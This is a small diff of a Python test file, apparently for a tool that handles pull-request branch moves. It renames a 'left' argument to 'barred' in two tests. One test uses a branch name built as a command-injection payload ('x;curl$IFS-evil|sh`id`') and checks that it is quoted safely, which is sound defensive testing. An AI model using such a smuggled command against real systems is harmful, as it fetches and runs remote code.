@@ -162,7 +162,7 @@ def test_something_moves_meanwhile(at: Stage, changed: Any, stage: Stage, line: 
 
 def test_a_head_elsewhere_is_known_from_the_pull_request_alone() -> None:
     # a branch of that name on the fork is another branch
-    elsewhere = over(here=False, repository="rita/tool", left="its branch is in another repository")
+    elsewhere = over(here=False, repository="rita/tool", barred="its branch is in another repository")
     attempt = carrying(Stage.CARRIED, carry_over=elsewhere)
     facts = seen(refs={"refs/heads/topic": oid("other"), "refs/heads/main": TARGET})
     decision = decide(attempt, facts)
@@ -206,7 +206,7 @@ def test_github_refuses_the_move_and_it_is_not_tried_again() -> None:
 
 def test_a_branch_whose_name_is_a_command() -> None:
     nasty = "x;curl$IFS-evil|sh`id`'"
-    attempt = carrying(Stage.CARRIED, carry_over=over(branch=nasty, left="it is so"))
+    attempt = carrying(Stage.CARRIED, carry_over=over(branch=nasty, barred="it is so"))
     facts = seen(refs={f"refs/heads/{nasty}": HEAD, "refs/heads/main": TARGET})
     text = said(decide(attempt, facts).effects)
     quoted = """'FETCH_HEAD:refs/heads/x;curl$IFS-evil|sh`id`'"'"''"""
